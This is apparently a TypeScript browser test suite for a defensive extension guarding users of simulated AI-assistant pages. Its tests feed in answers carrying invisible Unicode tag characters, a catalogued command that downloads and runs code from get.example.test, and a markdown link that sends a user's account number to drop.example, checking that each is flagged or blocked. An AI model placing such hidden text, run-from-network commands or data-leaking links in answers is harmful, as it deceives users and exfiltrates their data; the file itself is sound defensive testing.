// The door out, as a person meets it on replicas of assistants: characters in answers that nobody sees, copies by key and
// by the page's own buttons, links that carry data. Payloads are made of parts here or come from the catalogue.
import { afterAll, afterEach, describe, expect, test } from 'vitest';
import type { Page } from 'puppeteer';
import commands from '../../src/catalog/commands.json' with { type: 'json' };
import type { PolicySettings } from '../../src/model/policy.ts';
import { AssistantPage } from '../support/assistant-page.ts';
import { inPage } from '../support/demarc.ts';
import { choose, noticeOn, notesOn, untilNotice } from '../support/door-notice.ts';
import { stays, until } from '../support/until.ts';
import { useWorld } from '../support/world.ts';

const world = useWorld();
const SERVICES = ['chatgpt', 'copilot'] as const;
const command = commands.commands[0]?.match[0] ?? '';
const HIDDEN = [...'meet at noon'].map((c) => String.fromCodePoint(0xe0000 + (c.codePointAt(0) ?? 0))).join('');

let at: AssistantPage | undefined;
afterEach(async () => {
  for (const page of await world.demarc.browser.pages()) if (page.url().includes('drop.example')) await page.close();
  await at?.close();
  at = undefined;
  await world.demarc.changeSettings({ answerTextAction: 'warn' });
});
const settings = (change: Partial<PolicySettings>): Promise<unknown> => world.demarc.changeSettings(change);

/** Asks something and waits for the answer to stand. */
async function answered(id: string, prompt: string, answer: string): Promise<AssistantPage> {
  const page = await AssistantPage.open(world.demarc.browser, world.range, id);
  at = page;
  await page.focus();
  page.answer(answer);
  await page.type(prompt);
  await page.sendByEnter();
  const end = answer.trim().slice(-8).replace(/\W/g, '');
  await until('the answer stands', async () =>
    (await page.answers()).some((text) => text.replace(/\W/g, '').includes(end)),
  );
  return page;
}
const note = (page: Page, words: RegExp): Promise<true> =>
  until('a note is there', async () => (await notesOn(page)).some((text) => words.test(text)) && true);

const told = (page: Page, words: RegExp): Promise<true> =>
  until('the copy is told', async () => words.test((await noticeOn(page))?.text ?? '') && true);

/** What a person would paste now. */
async function clipboard(page: Page): Promise<string> {
  const origin = new URL(page.url()).origin;
  await world.demarc.browser.defaultBrowserContext().overridePermissions(origin, ['clipboard-read', 'clipboard-write']);
  return String(await page.evaluate('navigator.clipboard.readText()'));
}
async function copyAll(page: Page, selector: string): Promise<void> {
  await page.evaluate(`getSelection().selectAllChildren(document.querySelector(${JSON.stringify(selector)}))`);
  await page.keyboard.down('Control');
  await page.keyboard.press('KeyC', { commands: ['Copy'] });
  await page.keyboard.up('Control');
}
/** A button of the page that copies in its own way, pressed by a person. */
async function pressCopy(page: Page, job: string): Promise<void> {
  await page.evaluate(`{
    const button = document.createElement('button');
    button.id = 'copy';
    button.textContent = 'Copy';
    button.style.cssText = 'position:fixed;top:4px;left:4px;z-index:99';
    button.addEventListener('click', () => { ${job} });
    document.body.append(button);
  }`);
  await page.click('#copy');
}

describe.each(SERVICES)('%s', (id) => {
  test('an answer with characters that nobody sees says so and is kept on record', async () => {
    const { page } = await answered(id, 'When do we meet?', `At the pier.${HIDDEN} See you there tomorrow.`);
    await note(page, /: 12\b/);
    const incident = await until('a record', async () =>
      (await world.demarc.incidents()).find((i) => i.carrier === 'answer' && i.enforcement === 'labelled'),
    );
    expect(incident.verdict.layers.map((layer) => layer.text)).toContain('meet at noon');
  });

  test('an honest answer with emoji, joiners and code gets no note', async () => {
    const { page } = await answered(id, 'Hello', 'Hi 👩‍👩‍👧 می‌خواهم. Try this:\n\n    ls -la\n\nThat is everything here.');
    await stays('no note', async () => (await notesOn(page)).length === 0, 1_200);
  });

  test('a copied command that downloads and runs is named; the clipboard has it', async () => {
    const { page } = await answered(
      id,
      'How do I install it?',
      `Run this:\n\n\`\`\`\n${command}\n\`\`\`\n\nThen it is installed.`,
    );
    await copyAll(page, 'pre');
    await told(page, /get\.example\.test/);
    expect((await clipboard(page)).trim()).toBe(command);
  });

  test('policy can keep such a command from the clipboard, and leave out what nobody sees', async () => {
    await settings({ answerTextAction: 'block' });
    const text = `Run this:\n\n\`\`\`\n${command}\n\`\`\`\n\nAt the pier.${HIDDEN} It is installed.`;
    const { page } = await answered(id, 'How do I install it?', text);
    await page.evaluate('navigator.clipboard.writeText("before")').catch(() => undefined);
    await copyAll(page, 'pre');
    await told(page, /get\.example\.test/);
    expect(await clipboard(page)).toBe('');
    await copyAll(page, 'p:last-of-type');
    await until('the clipboard is clean', async () => (await clipboard(page)).includes('At the pier. It is'));
  });

  test.each([
    ['writeText', 'navigator.clipboard.writeText(TEXT)'],
    [
      'write',
      "navigator.clipboard.write([new ClipboardItem({ 'text/plain': new Blob([TEXT], { type: 'text/plain' }) })])",
    ],
    [
      'a copy event of its own',
      "addEventListener('copy', (e) => { e.preventDefault(); e.stopImmediatePropagation(); e.clipboardData.setData('text/plain', TEXT); }, { once: true, capture: true }); getSelection().selectAllChildren(document.body); document.execCommand('copy')",
    ],
  ])('a button that copies by %s is heard', async (way, job) => {
    const { page } = await answered(id, 'How do I install it?', `Use the button, \`${command}\` is what it copies.`);
    await pressCopy(page, job.replaceAll('TEXT', JSON.stringify(command)));
    await told(page, /get\.example\.test/);
    expect(way).not.toBe('');
  });

  test('a link that carries what the person wrote is named, held, and opened only as the person says', async () => {
    const secret = 'account 4412-7781 of Marta Lindqvist';
    const link = `http://drop.example/r?u=${encodeURIComponent(secret)}`;
    const asked = `Please remember ${secret}`;
    const { page } = await answered(id, asked, `Done. [Sign in again](${link}) to go on with it.`);
    const anchor = await page.waitForSelector('a[href*="drop.example"]');
    await anchor?.hover();
    await note(page, /drop\.example/);
    await anchor?.click();
    const seen = await untilNotice(page);
    expect(seen.role).toBe('alertdialog');
    expect(seen.text).toContain('drop.example');
    const tabs = (await world.demarc.browser.pages()).length;
    await page.keyboard.press('Escape');
    await until('the notice is gone', async () => (await noticeOn(page)) === null);
    expect((await world.demarc.browser.pages()).length).toBe(tabs);
    expect(String(await inPage(page, 'location.href'))).not.toContain('drop.example');

    await anchor?.click();
    await choose(page, await world.demarc.text('linkOpenBare'));
    const opened = await until('a tab without the data', async () =>
      (await world.demarc.browser.pages()).find((p) => p.url().includes('drop.example')),
    );
    expect(opened.url()).not.toContain('4412');
    const incident = await until('a record', async () =>
      (await world.demarc.incidents()).find((i) => i.carrier === 'answer' && i.name === 'href'),
    );
    expect(incident.text).not.toContain('4412');
  });

  test('an honest link is not touched', async () => {
    const { page } = await answered(
      id,
      'Where is the harbour?',
      'See [the map](http://drop.example/places/harbour?zoom=12) for it.',
    );
    const anchor = await page.waitForSelector('a[href*="drop.example"]');
    await anchor?.click({ button: 'middle' });
    await until('it opens', async () => (await world.demarc.browser.pages()).some((p) => p.url().includes('zoom=12')));
    expect(await noticeOn(page)).toBeNull();
  });
});

afterAll(() => expect(SERVICES).toHaveLength(2));
